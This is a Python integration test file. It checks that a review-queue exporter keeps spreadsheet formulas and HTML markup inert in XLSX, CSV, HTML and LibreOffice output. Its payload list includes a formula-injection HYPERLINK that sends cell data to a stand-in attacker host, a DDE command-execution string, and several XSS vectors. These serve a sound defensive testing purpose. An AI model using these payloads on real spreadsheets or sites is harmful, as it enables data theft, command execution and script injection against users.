"""Review exports are inert: formulas stay text in XLSX and CSV (in LibreOffice too), markup
is escaped in HTML, the reviewer columns come first and are tinted, the sheet sorts and
filters, and the decision column offers the framework's list."""

import csv
import shutil
import subprocess
import zipfile

import polars as pl
import pytest
from openpyxl import load_workbook

from assets.exports.review_queue import (
    CONTEXT_COLUMNS,
    DECISIONS,
    REVIEWER_COLUMNS,
    _cell,
    write_csv,
    write_html,
    write_xlsx,
)
from assets.exports.spreadsheet_safety import TRIGGERS

pytestmark = pytest.mark.integration

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '"><svg onload=alert(3)>',
]
NUMERIC = {"step", "previous_messages"}


@pytest.fixture
def queue() -> pl.DataFrame:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        row = {c: payload for c in CONTEXT_COLUMNS}
        row |= {
            "review_token": f"cm_{i}.abc",
            "campaign_id": "diag",
            "send_authority": "Human Approved Send",
        }
        row |= {"step": 1, "previous_messages": 0, "lint_passed": True}
        rows.append(row)
    return pl.DataFrame(rows).select(CONTEXT_COLUMNS)


def test_xlsx_cells_never_run_and_only_reviewer_columns_are_editable(queue, tmp_path):
    path = tmp_path / "q.xlsx"
    write_xlsx(queue, path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert sorted(header) == sorted([*CONTEXT_COLUMNS, *REVIEWER_COLUMNS])
    assert header[:3] == ["review_token", "decision", "reviewer"]  # beside the token
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert len(texts) >= len(PAYLOADS) * (len(CONTEXT_COLUMNS) - 5)
    for cell in texts:
        assert cell.data_type == "s"
        assert not cell.value.startswith(TRIGGERS), cell.value
    # sort and filter work: no sheet protection, a filter over the whole table
    assert not sheet.protection.sheet
    assert sheet.auto_filter.ref == sheet.dimensions
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            tinted = str(cell.fill.start_color.rgb)[-6:] == "FFF6E0"
            assert tinted is (header[cell.column - 1] in REVIEWER_COLUMNS)
        # the message is readable: rows as tall as the wrapped body
        body = row[header.index("body")].value or ""
        # (no height written: the default row, 15 points)
        height = sheet.row_dimensions[row[0].row].height or 15
        assert height >= 15 * min(27, 1 + len(body) // 70)
    [validation] = sheet.data_validations.dataValidation
    assert validation.formula1 == '"' + ",".join(DECISIONS) + '"'
    decision_column = sheet.cell(row=1, column=header.index("decision") + 1).column_letter
    assert f"{decision_column}2" in str(validation.sqref).split(":")[0]


def test_csv_fields_never_start_a_formula(queue, tmp_path):
    path = tmp_path / "q.csv"
    write_csv(queue, path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert sorted(rows[0]) == sorted([*CONTEXT_COLUMNS, *REVIEWER_COLUMNS])
    fields = [value for row in rows[1:] for value in row]
    assert len(rows) == len(PAYLOADS) + 1
    assert not [v for v in fields if v.startswith(TRIGGERS)]
    assert "'" + PAYLOADS[0] in fields  # kept, as text


def test_html_escapes_every_value(queue, tmp_path):
    [page] = write_html(queue, tmp_path, "2026-11-24")
    html = page.read_text()
    for tag in ("<script", "<img", "<svg"):
        assert tag not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "Content-Security-Policy" in html


def test_libreoffice_opens_the_queue_with_the_decision_beside_the_token_and_runs_nothing(
    queue, tmp_path
):
    """The XLSX as a spreadsheet program reads it: LibreOffice Calc, headless, recomputing
    on load, saves it back as CSV. Every payload is still the text it was (nothing ran as
    a formula), the decision column is B and the message body is whole."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.fail("LibreOffice is not installed: `apt-get install libreoffice-calc-nogui`")
    path = tmp_path / "q.xlsx"
    write_xlsx(queue, path)
    out = tmp_path / "out"
    subprocess.run(
        [soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false",
         "--outdir", str(out), str(path)],
        capture_output=True, timeout=180, check=True,
    )  # fmt: skip
    with (out / "q.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:3] == ["review_token", "decision", "reviewer"]
    body = rows[0].index("body")
    assert [r[0] for r in rows[1:]] == [f"cm_{i}.abc" for i in range(len(PAYLOADS))]
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        # what was written, as text (a line break in a cell is a line feed in XML)
        written = _cell(payload).replace("\r", "\n")
        assert row[body] == written, (row[body], written)
